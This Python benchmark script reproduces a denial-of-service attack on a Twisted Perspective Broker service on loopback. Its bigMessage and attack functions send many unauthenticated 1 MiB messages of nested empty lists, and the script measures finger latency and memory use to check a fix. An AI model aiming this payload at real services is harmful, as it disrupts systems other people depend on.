#!/usr/bin/env python3
"""
The Perspective Broker attack of issue 12, measured: one service, then 60
clients that each send, without logging in, one 1 MiB message of about
500,000 empty lists (what used to take seconds of the reactor's time to
decode).  While they attack, a finger client keeps asking; the script
prints the worst finger answer time and the service's memory before,
during and after.

    python bench/pbattack.py [--clients 60] [--rounds 3]

It talks to loopback only and stops by itself.
"""

import argparse
import os
import socket
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

CHECKOUT = Path(__file__).resolve().parent.parent


def b128(n: int) -> bytes:
    out = bytearray()
    while True:
        out.append(n & 0x7F)
        n >>= 7
        if not n:
            return bytes(out)


def bigMessage(items: int = 500_000) -> bytes:
    return b128(items) + b"\x80" + b"\x00\x80" * items


def freePort() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def rss(pid: int) -> float:
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
    return float("nan")


def finger(port: int) -> float:
    started = time.monotonic()
    with socket.create_connection(("127.0.0.1", port), timeout=30) as s:
        s.sendall(b"moshez\r\n")
        while s.recv(4096):
            pass
    return time.monotonic() - started


def attack(port: int, payload: bytes) -> None:
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=10) as s:
            s.sendall(b"\x02\x82pb" + payload)
            s.settimeout(5)
            try:
                while s.recv(65536):
                    pass
            except OSError:
                pass
    except OSError:
        pass


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--clients", type=int, default=60)
    parser.add_argument("--rounds", type=int, default=3)
    args = parser.parse_args()
    work = Path(tempfile.mkdtemp())
    users = work / "users"
    users.write_text("moshez: Happy and well\n")
    fport, pport = freePort(), freePort()
    env = dict(os.environ, PYTHONPATH=str(CHECKOUT))
    twistd = str(Path(sys.executable).parent / "twistd")
    server = subprocess.Popen(
        [twistd, "-n", "--pidfile=", "-l", str(work / "log"), "finger", "--file", str(users),
         "--fingerport", f"tcp:{fport}:interface=127.0.0.1", "--no-setter",
         "--webport", "tcp:0:interface=127.0.0.1", "--pbport", f"tcp:{pport}:interface=127.0.0.1"],
        env=env, cwd=str(work),
    )
    try:
        deadline = time.monotonic() + 20
        while time.monotonic() < deadline:
            try:
                finger(fport)
                break
            except OSError:
                time.sleep(0.1)
        time.sleep(0.5)
        before = rss(server.pid)
        payload = bigMessage()
        worst, peak = 0.0, before
        for _ in range(args.rounds):
            threads = [threading.Thread(target=attack, args=(pport, payload)) for _ in range(args.clients)]
            for t in threads:
                t.start()
            end = time.monotonic() + 3
            while time.monotonic() < end or any(t.is_alive() for t in threads):
                worst = max(worst, finger(fport))
                peak = max(peak, rss(server.pid))
                time.sleep(0.02)
            for t in threads:
                t.join()
        time.sleep(2)
        after = rss(server.pid)
        print(f"clients={args.clients} rounds={args.rounds}")
        print(f"worst finger answer during the attack: {worst * 1000:.0f} ms")
        print(f"RSS before {before:.0f} MB, peak {peak:.0f} MB (+{peak - before:.0f}), after {after:.0f} MB")
    finally:
        server.terminate()
        server.wait(30)


if __name__ == "__main__":
    main()
